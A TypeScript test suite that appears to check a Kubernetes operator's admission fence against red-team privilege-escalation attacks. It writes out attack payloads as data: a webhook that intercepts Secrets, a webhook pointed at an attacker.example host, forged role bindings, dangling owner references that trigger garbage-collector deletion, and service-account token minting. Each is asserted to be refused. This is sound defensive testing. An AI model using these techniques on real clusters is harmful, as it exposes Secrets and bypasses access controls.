/**
 * Attack: holes around the operator fence (config/policy/operator-fence.yaml),
 * found by a red-team pass. Each request is made as the operator's
 * ServiceAccount against the real API server of `atoll dev`.
 *
 * 1. The operator may update atoll's own webhook configurations (it fills in
 *    caBundle). Without a fence on their content it can add a webhook that
 *    intercepts Secret writes in every namespace and so read every Secret
 *    (the API server sends the whole object to the webhook), or weaken atoll's
 *    own webhooks (failurePolicy Ignore, fewer operations, selectors).
 * 2. atoll-operator-quota (resourcequotas, every verb but list) is bindable by
 *    the operator; the fence that ties the Secret roles to a Workspace and to
 *    the controller's ServiceAccount did not cover it, so the operator could
 *    label any namespace, bind it there and delete that namespace's quotas,
 *    or bind it to a tenant who then raises their own connection limit.
 * 3. The fence watched CREATE and UPDATE only; the operator's RBAC lets it
 *    delete any Role or RoleBinding in the cluster (kube-system included).
 * 4. With update on Workspaces and the webhook configurations, the operator
 *    could add an owner reference to an owner that does not exist: the
 *    garbage collector then deletes the object at once (a Workspace was gone
 *    within a second), though the operator holds no delete on either.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { KubeClient, KubeObject } from '../../src/kube/client.js';
import { KubeApiError } from '../../src/kube/errors.js';
import {
  MutatingWebhookConfigurations,
  Namespaces,
  ResourceQuotas,
  RoleBindings,
  Roles,
  Secrets,
  ServiceAccounts,
  ValidatingWebhookConfigurations,
  Workspaces,
} from '../../src/kube/resources.js';
import { createCertificate, createCertificateAuthority } from '../../src/kube/x509.js';
import { startHttpFixture, type HttpFixture } from '../support/services.js';
import { admin, createWorkspace, eventually, randomSecret, uniqueName, userClient } from '../support/cluster.js';

const OPERATOR_NS = 'atoll-system';
const OPERATOR = `system:serviceaccount:${OPERATOR_NS}:atoll-controller`;
const SA_GROUPS = ['system:serviceaccounts', `system:serviceaccounts:${OPERATOR_NS}`, 'system:authenticated'];
const RBAC = 'rbac.authorization.k8s.io';
const operator = (): KubeClient => userClient(OPERATOR, SA_GROUPS);

type Webhook = {
  name: string;
  clientConfig: { url?: string; service?: unknown; caBundle?: string };
  rules: unknown[];
  failurePolicy?: string;
  [k: string]: unknown;
};
type WebhookConfig = KubeObject & { webhooks?: Webhook[] };

async function refused(p: Promise<unknown>, statuses = [403]): Promise<KubeApiError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(KubeApiError);
  expect(statuses, (err as KubeApiError).message).toContain((err as KubeApiError).status);
  return err as KubeApiError;
}

const FENCE = "ValidatingAdmissionPolicy 'atoll-webhook-fence'";

describe("attack: the operator rewrites atoll's webhook configurations", () => {
  let sink: HttpFixture;
  let caBundle: string;
  const plain = uniqueName('webhook-victim');
  const precious = randomSecret('intercepted');
  const saved: Record<string, Webhook[]> = {};

  beforeAll(async () => {
    // The attacker's webhook server: answers every AdmissionReview "allowed" and records what it was sent.
    const ca = createCertificateAuthority({ commonName: 'attacker-ca' });
    const tls = createCertificate({ issuer: ca, commonName: '127.0.0.1', ipAddresses: ['127.0.0.1'], usage: 'server' });
    caBundle = Buffer.from(ca.certPem).toString('base64');
    sink = await startHttpFixture(
      (req, res) => {
        const uid = (JSON.parse(req.body || '{}') as { request?: { uid?: string } }).request?.uid;
        res.setHeader('content-type', 'application/json');
        res.end(
          JSON.stringify({
            apiVersion: 'admission.k8s.io/v1',
            kind: 'AdmissionReview',
            response: { uid, allowed: true },
          }),
        );
      },
      { tls },
    );
    await admin().create(Namespaces, { metadata: { name: plain } });
    saved.mutating = (await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks ?? [];
    saved.validating =
      (await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating')).webhooks ?? [];
  });

  afterAll(async () => {
    // Put atoll's configurations back whatever happened, so later suites see the real webhooks.
    await admin()
      .jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
        { op: 'replace', path: '/webhooks', value: saved.mutating },
      ])
      .catch(() => undefined);
    await admin()
      .jsonPatch(ValidatingWebhookConfigurations, 'atoll-validating', undefined, [
        { op: 'replace', path: '/webhooks', value: saved.validating },
      ])
      .catch(() => undefined);
    await admin()
      .delete(Namespaces, plain)
      .catch(() => undefined);
    await sink?.stop();
  });

  it('refuses a webhook that intercepts Secrets; a Secret written afterwards reaches no one', async () => {
    const spy = {
      name: 'audit.secrets.atoll.dev',
      clientConfig: { url: `${sink.url}/spy`, caBundle },
      rules: [
        {
          apiGroups: [''],
          apiVersions: ['v1'],
          operations: ['CREATE', 'UPDATE'],
          resources: ['secrets'],
          scope: 'Namespaced',
        },
      ],
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
      timeoutSeconds: 5,
    };
    const err = await refused(
      operator().jsonPatch(ValidatingWebhookConfigurations, 'atoll-validating', undefined, [
        { op: 'add', path: '/webhooks/-', value: spy },
      ]),
    );
    expect(err.message).toContain(FENCE);
    const err2 = await refused(
      operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
        { op: 'add', path: '/webhooks/-', value: { ...spy, reinvocationPolicy: 'Never' } },
      ]),
    );
    expect(err2.message).toContain(FENCE);
    const stored = await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating');
    expect(stored.webhooks?.map((w) => w.name)).toEqual(saved.validating!.map((w) => w.name));
    // Nothing reaches the attacker's server when someone writes a Secret.
    await admin().create(Secrets, {
      metadata: { name: 'precious', namespace: plain },
      stringData: { token: precious },
    } as never);
    await admin().mergePatch(Secrets, 'precious', plain, { stringData: { token: `${precious}-2` } });
    expect(sink.requests.map((r) => r.body).join('')).not.toContain('precious');
    expect(sink.requests).toHaveLength(0);
  });

  it("refuses weakening atoll's own webhooks: failurePolicy Ignore, fewer operations, selectors, another server", async () => {
    const patches: Array<[typeof MutatingWebhookConfigurations, string, unknown[]]> = [
      [
        ValidatingWebhookConfigurations,
        'atoll-validating',
        [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }],
      ],
      [
        ValidatingWebhookConfigurations,
        'atoll-validating',
        [{ op: 'replace', path: '/webhooks/0/rules/0/operations', value: ['CREATE'] }],
      ],
      [
        ValidatingWebhookConfigurations,
        'atoll-validating',
        [{ op: 'replace', path: '/webhooks/1/objectSelector', value: { matchLabels: { 'never-validated': 'true' } } }],
      ],
      [ValidatingWebhookConfigurations, 'atoll-validating', [{ op: 'replace', path: '/webhooks', value: [] }]],
      [
        MutatingWebhookConfigurations,
        'atoll-mutating',
        [
          {
            op: 'replace',
            path: '/webhooks/0/namespaceSelector',
            value: { matchLabels: { 'kubernetes.io/metadata.name': 'nowhere' } },
          },
        ],
      ],
      [
        MutatingWebhookConfigurations,
        'atoll-mutating',
        [
          {
            op: 'replace',
            path: '/webhooks/0/clientConfig',
            value: { url: `https://attacker.example:8443/mutate`, caBundle },
          },
        ],
      ],
      [
        MutatingWebhookConfigurations,
        'atoll-mutating',
        [{ op: 'replace', path: '/webhooks/0/rules/0/resources', value: ['externalconnections', 'secrets'] }],
      ],
    ];
    for (const [type, name, ops] of patches) {
      const err = await refused(operator().jsonPatch(type, name, undefined, ops));
      expect(err.message, JSON.stringify(ops)).toContain(FENCE);
    }
    expect((await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating')).webhooks).toEqual(
      saved.validating,
    );
    expect((await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks).toEqual(
      saved.mutating,
    );
  });

  it('still lets the operator re-apply its configurations and rotate caBundle', async () => {
    const rotated = saved.validating!.map((w) => ({
      ...w,
      clientConfig: { ...w.clientConfig, caBundle: w.clientConfig.caBundle },
    }));
    await operator().apply(
      ValidatingWebhookConfigurations,
      { metadata: { name: 'atoll-validating' }, webhooks: rotated } as never,
      { fieldManager: 'atoll', force: true },
    );
    await operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
      { op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: caBundle },
    ]);
    await operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
      { op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: saved.mutating![0]!.clientConfig.caBundle },
    ]);
    expect((await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks).toEqual(
      saved.mutating,
    );
  });
});

describe('attack: the operator binds atoll-operator-quota where it has no business', () => {
  const plain = uniqueName('quota-victim');
  const ws = uniqueName('quota-ws');

  beforeAll(async () => {
    await admin().create(Namespaces, { metadata: { name: plain } });
    await admin().create(ResourceQuotas, {
      metadata: { name: 'team-limits', namespace: plain },
      spec: { hard: { pods: '10' } },
    } as never);
    await createWorkspace(ws, {
      policy: { maxConnections: 2 },
      members: [{ kind: 'User', name: 'quota-tenant', role: 'admin' }],
    });
  });

  afterAll(async () => {
    await admin()
      .delete(Namespaces, plain)
      .catch(() => undefined);
  });

  it('refuses it in a namespace the operator labelled itself, and the quota there survives', async () => {
    await operator().mergePatch(Namespaces, plain, undefined, {
      metadata: { labels: { 'atoll.dev/workspace': 'forged' } },
    });
    try {
      const binding = (labels: Record<string, string>) => ({
        metadata: { name: 'atoll-operator-quota', namespace: plain, labels },
        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-operator-quota' },
        subjects: [{ kind: 'ServiceAccount', name: 'atoll-controller', namespace: OPERATOR_NS }],
      });
      await refused(operator().create(RoleBindings, binding({}) as never), [403, 422]);
      await refused(
        operator().create(RoleBindings, binding({ 'app.kubernetes.io/managed-by': 'atoll' }) as never),
        [403, 422],
      );
      expect(await admin().tryGet(RoleBindings, 'atoll-operator-quota', plain)).toBeUndefined();
      await refused(operator().delete(ResourceQuotas, 'team-limits', plain));
      expect(await admin().tryGet(ResourceQuotas, 'team-limits', plain)).toBeDefined();
    } finally {
      await operator().mergePatch(Namespaces, plain, undefined, {
        metadata: { labels: { 'atoll.dev/workspace': null } },
      });
    }
  });

  it('refuses binding it to a tenant, who could then raise their own connection limit', async () => {
    await refused(
      operator().create(RoleBindings, {
        metadata: { name: 'tenant-quota', namespace: ws, labels: { 'app.kubernetes.io/managed-by': 'atoll' } },
        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-operator-quota' },
        subjects: [{ apiGroup: RBAC, kind: 'User', name: 'quota-tenant' }],
      } as never),
    );
    expect(await admin().tryGet(RoleBindings, 'tenant-quota', ws)).toBeUndefined();
    // RBAC lets the operator bind atoll-connection-reader (plaintext credentials through the gateway); the fence does not.
    const reader = await refused(
      operator().create(RoleBindings, {
        metadata: { name: 'reader-grab', namespace: ws },
        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-connection-reader' },
        subjects: [{ kind: 'ServiceAccount', name: 'atoll-controller', namespace: OPERATOR_NS }],
      } as never),
    );
    expect(reader.message).toContain("binds only the tenant Roles and atoll's own ClusterRoles");
    expect(await admin().tryGet(RoleBindings, 'reader-grab', ws)).toBeUndefined();
    await refused(
      userClient('quota-tenant').mergePatch(ResourceQuotas, 'atoll-connections', ws, {
        spec: { hard: { 'count/externalconnections.atoll.dev': '100000' } },
      }),
    );
    const q = await admin().get<KubeObject & { spec: { hard: Record<string, string> } }>(
      ResourceQuotas,
      'atoll-connections',
      ws,
    );
    expect(q.spec.hard['count/externalconnections.atoll.dev']).toBe('2');
  });
});

describe('attack: the operator deletes Roles and RoleBindings outside workspace namespaces', () => {
  const plain = uniqueName('rbac-victim');
  const ws = uniqueName('rbac-ws');

  beforeAll(async () => {
    await admin().create(Namespaces, { metadata: { name: plain } });
    await admin().create(Roles, {
      metadata: { name: 'app-reader', namespace: plain },
      rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get'] }],
    } as never);
    await admin().create(RoleBindings, {
      metadata: { name: 'app-reader', namespace: plain },
      roleRef: { apiGroup: RBAC, kind: 'Role', name: 'app-reader' },
      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'app' }],
    } as never);
    // Our own victim in kube-system: the attack must not be able to hurt the shared cluster.
    await admin().create(RoleBindings, {
      metadata: { name: 'redteam-victim', namespace: 'kube-system' },
      roleRef: { apiGroup: RBAC, kind: 'Role', name: 'app-reader' },
      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'app' }],
    } as never);
    await createWorkspace(ws, { members: [{ kind: 'User', name: 'rbac-tenant', role: 'admin' }] });
    await userClient('rbac-tenant').create(RoleBindings, {
      metadata: { name: 'ci-uses-connections', namespace: ws },
      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-connection-user' },
      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'ci' }],
    } as never);
  });

  afterAll(async () => {
    await admin()
      .delete(RoleBindings, 'redteam-victim', 'kube-system')
      .catch(() => undefined);
    await admin()
      .delete(Namespaces, plain)
      .catch(() => undefined);
  });

  it("refuses deleting RBAC in kube-system, in other namespaces and tenants' own bindings; all of it stays", async () => {
    await refused(operator().delete(RoleBindings, 'redteam-victim', 'kube-system'));
    await refused(operator().delete(RoleBindings, 'app-reader', plain));
    await refused(operator().delete(Roles, 'app-reader', plain));
    await refused(operator().delete(RoleBindings, 'ci-uses-connections', ws));
    expect(await admin().tryGet(RoleBindings, 'redteam-victim', 'kube-system')).toBeDefined();
    expect(await admin().tryGet(RoleBindings, 'app-reader', plain)).toBeDefined();
    expect(await admin().tryGet(Roles, 'app-reader', plain)).toBeDefined();
    expect(await admin().tryGet(RoleBindings, 'ci-uses-connections', ws)).toBeDefined();
  });

  it('still lets the operator delete its own bindings in a workspace (it puts them back)', async () => {
    await operator().delete(RoleBindings, 'atoll-viewer', ws);
    expect(await admin().tryGet(RoleBindings, 'atoll-viewer', ws)).toBeUndefined();
    // A change to the Workspace makes the reconciler put it back.
    await admin().mergePatch(Workspaces, ws, ws, { metadata: { annotations: { 'example.com/touch': '1' } } });
    await eventually(
      'the reconciler restores atoll-viewer',
      () => admin().tryGet(RoleBindings, 'atoll-viewer', ws),
      (rb) => rb !== undefined,
      60_000,
    );
  });
});

describe('attack: the operator has the garbage collector delete what it may not', () => {
  const ws = uniqueName('gc-ws');
  // An owner that does not exist: the garbage collector deletes the dependent at once.
  const dangling = {
    apiVersion: 'atoll.dev/v1alpha1',
    kind: 'IntegrationType',
    name: 'does-not-exist',
    uid: '00000000-0000-4000-8000-000000000001',
  };

  beforeAll(async () => {
    await createWorkspace(ws, { members: [{ kind: 'User', name: 'gc-tenant', role: 'admin' }] });
  });

  it('refuses a dangling owner reference or a spec change on a Workspace (it holds no delete on Workspaces)', async () => {
    const err = await refused(operator().mergePatch(Workspaces, ws, ws, { metadata: { ownerReferences: [dangling] } }));
    expect(err.message).toContain('never its spec or owner references');
    await refused(
      operator().mergePatch(Workspaces, ws, ws, {
        spec: { members: [{ kind: 'User', name: 'intruder', role: 'admin' }] },
      }),
    );
    const stored = await admin().get<KubeObject & { spec?: { members?: Array<{ name: string }> } }>(Workspaces, ws, ws);
    expect(stored.metadata?.ownerReferences).toBeUndefined();
    expect(stored.metadata?.deletionTimestamp).toBeUndefined();
    expect(stored.spec?.members?.map((m) => m.name)).toEqual(['gc-tenant']);
  });

  it("refuses a dangling owner reference or a finalizer on atoll's webhook configurations", async () => {
    for (const type of [ValidatingWebhookConfigurations, MutatingWebhookConfigurations]) {
      const name = type === ValidatingWebhookConfigurations ? 'atoll-validating' : 'atoll-mutating';
      const err = await refused(
        operator().mergePatch(type, name, undefined, { metadata: { ownerReferences: [dangling] } }),
      );
      expect(err.message).toContain('owner references or finalizers');
      await refused(operator().mergePatch(type, name, undefined, { metadata: { finalizers: ['example.com/hold'] } }));
      const stored = await admin().get<KubeObject>(type, name);
      expect(stored.metadata?.ownerReferences).toBeUndefined();
      expect(stored.metadata?.finalizers).toBeUndefined();
    }
  });
});

describe('attack: the operator mints a token for a ServiceAccount it may not act as', () => {
  const ws = uniqueName('token-ws');

  beforeAll(async () => {
    await createWorkspace(ws, { members: [{ kind: 'User', name: 'token-tenant', role: 'admin' }] });
    // A tenant's deploy ServiceAccount, with rights the operator lacks.
    await admin().create(ServiceAccounts, { metadata: { name: 'deployer', namespace: ws } } as never);
  });

  it('refuses a Secret of type service-account-token, in a workspace namespace or its own; other Secrets still work', async () => {
    // RBAC lets it write Secrets in both; the token controller would fill such a Secret with a token it may read.
    for (const [namespace, sa] of [
      [ws, 'deployer'],
      [OPERATOR_NS, 'atoll-gateway'],
    ] as const) {
      const err = await refused(
        operator().create(Secrets, {
          metadata: { name: 'minted-token', namespace, annotations: { 'kubernetes.io/service-account.name': sa } },
          type: 'kubernetes.io/service-account-token',
        } as never),
      );
      expect(err.message).toContain('writes no Secret of type kubernetes.io/service-account-token');
      expect(await admin().tryGet(Secrets, 'minted-token', namespace)).toBeUndefined();
    }
    await operator().create(Secrets, {
      metadata: { name: 'plain-secret', namespace: ws },
      stringData: { k: 'v' },
    } as never);
    await operator().delete(Secrets, 'plain-secret', ws);
  });
});
